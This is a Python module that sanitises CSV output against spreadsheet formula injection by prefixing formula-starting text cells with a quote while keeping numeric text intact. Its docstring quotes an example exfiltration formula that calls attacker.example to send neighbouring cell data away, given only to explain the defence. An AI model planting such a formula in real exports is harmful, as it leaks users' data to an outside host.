"""CSV a spreadsheet opens as data, never as formulas: every CSV the project writes goes through
`csv_writer` (tests/test_house.py holds the project to it). No Django.

Excel, LibreOffice and Google Sheets read a cell that begins with = + - @, a tab or a carriage return as
a formula, so text from outside — a model name typed into `track_costs --log --model`, a note — could
make the finance team's spreadsheet run `=HYPERLINK("http://attacker.example/?d="&B2,"open")` and send
its neighbour cells away. OWASP's rule ("CSV Injection"): such a text cell is written with a leading
single quote, which the spreadsheet shows as text. Numbers stay numbers — an int, a Decimal, or text
that is exactly a decimal number (money as `money_str` writes it: a reversal's "-0.010000") cannot be a
formula, and quoting it would turn the ledger's amounts into text that no longer sums.
"""

from __future__ import annotations

import csv
import re
from collections.abc import Iterable
from typing import Any, Protocol

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
_DECIMAL_NUMBER = re.compile(r"[+-]?[0-9]+(?:\.[0-9]+)?")  # ASCII digits: what a spreadsheet reads as a number


class TextSink(Protocol):
    def write(self, text: str, /) -> Any: ...


def spreadsheet_cell(value: object) -> object:
    """`value` as a CSV cell a spreadsheet reads as data: text that would start a formula gets a leading
    "'"; numbers, number-text and all other values are left as they are."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS) and not _DECIMAL_NUMBER.fullmatch(value):
        return "'" + value
    return value


class SpreadsheetCsvWriter:
    """csv.writer whose every cell passes through `spreadsheet_cell`."""

    def __init__(self, out: TextSink, **fmtparams: Any) -> None:
        self._writer = csv.writer(out, **fmtparams)

    def writerow(self, row: Iterable[object]) -> Any:
        return self._writer.writerow([spreadsheet_cell(value) for value in row])

    def writerows(self, rows: Iterable[Iterable[object]]) -> None:
        for row in rows:
            self.writerow(row)


def csv_writer(out: TextSink, **fmtparams: Any) -> SpreadsheetCsvWriter:
    """The project's csv.writer: the same arguments, and cells safe to open in a spreadsheet."""
    return SpreadsheetCsvWriter(out, **fmtparams)
